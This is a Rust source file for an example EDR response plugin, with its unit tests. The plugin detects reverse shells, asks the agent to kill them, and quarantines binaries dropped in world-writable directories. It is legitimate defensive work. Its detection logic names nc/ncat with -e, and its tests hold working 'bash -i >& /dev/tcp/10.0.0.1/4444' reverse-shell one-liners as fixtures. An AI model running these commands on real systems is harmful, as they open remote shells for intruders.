//! Example response plugin: when a reverse shell starts, ask the agent to
//! kill it (with its children) and, if the program was dropped into a
//! world-writable directory, to quarantine that file.
//!
//! The plugin only *asks*: the agent's policy decides (the pack must be
//! granted `kill-process` and `quarantine-file`, in `enforce` mode to act or
//! `simulate` mode to only record), and every request is audited.

use edr_sdk::prelude::*;

const RULE: Rule = Rule {
    id: "example.response.revshell-killed",
    title: "Reverse shell stopped",
    severity: Severity::High,
    techniques: &["T1059.004", "T1095"],
    author: "Example Security",
    description: "A shell redirected to a network socket was killed by policy.",
};

/// The response plugin.
pub struct KillRevshell;

/// Where dropped payloads live.
const DROP_DIRS: &[&str] = &["/tmp", "/var/tmp", "/dev/shm"];

fn is_reverse_shell(exec: &ProcessExec<'_>) -> bool {
    redirects_to_dev_net(&exec.command_line()) || (matches!(exec.name(), "nc" | "ncat" | "netcat") && exec.argv.iter().any(|a| a == "-e" || a == "--sh-exec"))
}

impl Detector for KillRevshell {
    const NAME: &'static str = "kill-revshell";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const DESCRIPTION: &'static str = "Kills reverse shells; quarantines dropped binaries";
    const SUBSCRIPTIONS: &'static [EventKind] = &[EventKind::ProcessExec];

    fn init(_: &Config) -> Result<Self, String> {
        Ok(KillRevshell)
    }

    fn on_event(&mut self, event: &Event<'_>, findings: &mut Findings) {
        let Some(exec) = event.exec() else { return };
        if !is_reverse_shell(exec) {
            return;
        }
        let reason = format!("reverse shell: {}", exec.command_line());
        let kill = host::request(&Action::KillProcess(KillTarget { pid: exec.pid, entity_id: Some(exec.entity_id), tree: true }), &reason);
        let f = findings.report(&RULE, event, format!("reverse shell pid {} ({}): kill {}", exec.pid, exec.exe, decision(kill)));
        f.evidence.push(("kill".into(), decision(kill).into()));
        if DROP_DIRS.iter().any(|d| is_under(exec.exe, d)) {
            let q = host::request(
                &Action::QuarantineFile(exec.exe.to_string()),
                &format!("binary of a reverse shell, dropped in a world-writable directory: {}", exec.exe),
            );
            f.evidence.push(("quarantine".into(), decision(q).into()));
        }
    }
}

fn decision(d: Decision) -> &'static str {
    match d {
        Decision::Enforced => "enforced",
        Decision::Simulated => "simulated",
        Decision::Refused => "refused",
    }
}

edr_sdk::export_detector!(KillRevshell);

#[cfg(test)]
mod tests {
    use super::*;
    use edr_sdk::testing::{exec, Harness};

    #[test]
    fn asks_to_kill_and_quarantine_a_dropped_reverse_shell() {
        let mut h = Harness::<KillRevshell>::new().unwrap();
        h.set_decision(Decision::Enforced);
        let hits = h.run(&[exec("/tmp/.x/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]).pid(777, 1).build()]);
        assert_eq!(hits.len(), 1);
        let actions = h.actions();
        assert!(matches!(&actions[0].0, Action::KillProcess(KillTarget { pid: 777, tree: true, .. })), "{actions:?}");
        assert_eq!(actions[1].0, Action::QuarantineFile("/tmp/.x/bash".into()));
    }

    #[test]
    fn leaves_other_shells_and_installed_binaries_alone() {
        let mut h = Harness::<KillRevshell>::new().unwrap();
        assert!(h.run(&[exec("/usr/bin/bash", &["bash", "-c", "ls /dev/"]).build()]).is_empty());
        h.run(&[exec("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/1 0>&1"]).build()]);
        // Killed, but /usr/bin/bash is not quarantined.
        assert_eq!(h.actions().len(), 1);
    }
}
